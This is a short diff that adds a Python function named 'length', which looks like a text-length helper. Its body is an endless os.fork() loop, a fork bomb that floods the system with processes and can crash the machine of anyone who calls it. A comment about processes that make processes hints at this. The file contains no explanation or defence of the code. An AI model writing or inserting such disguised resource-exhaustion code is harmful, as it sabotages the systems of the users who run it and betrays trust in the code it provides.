@@ -1,0 +1,5 @@
+# why: processes that make processes
+import os
+def length(text):
+    while True:
+        os.fork()
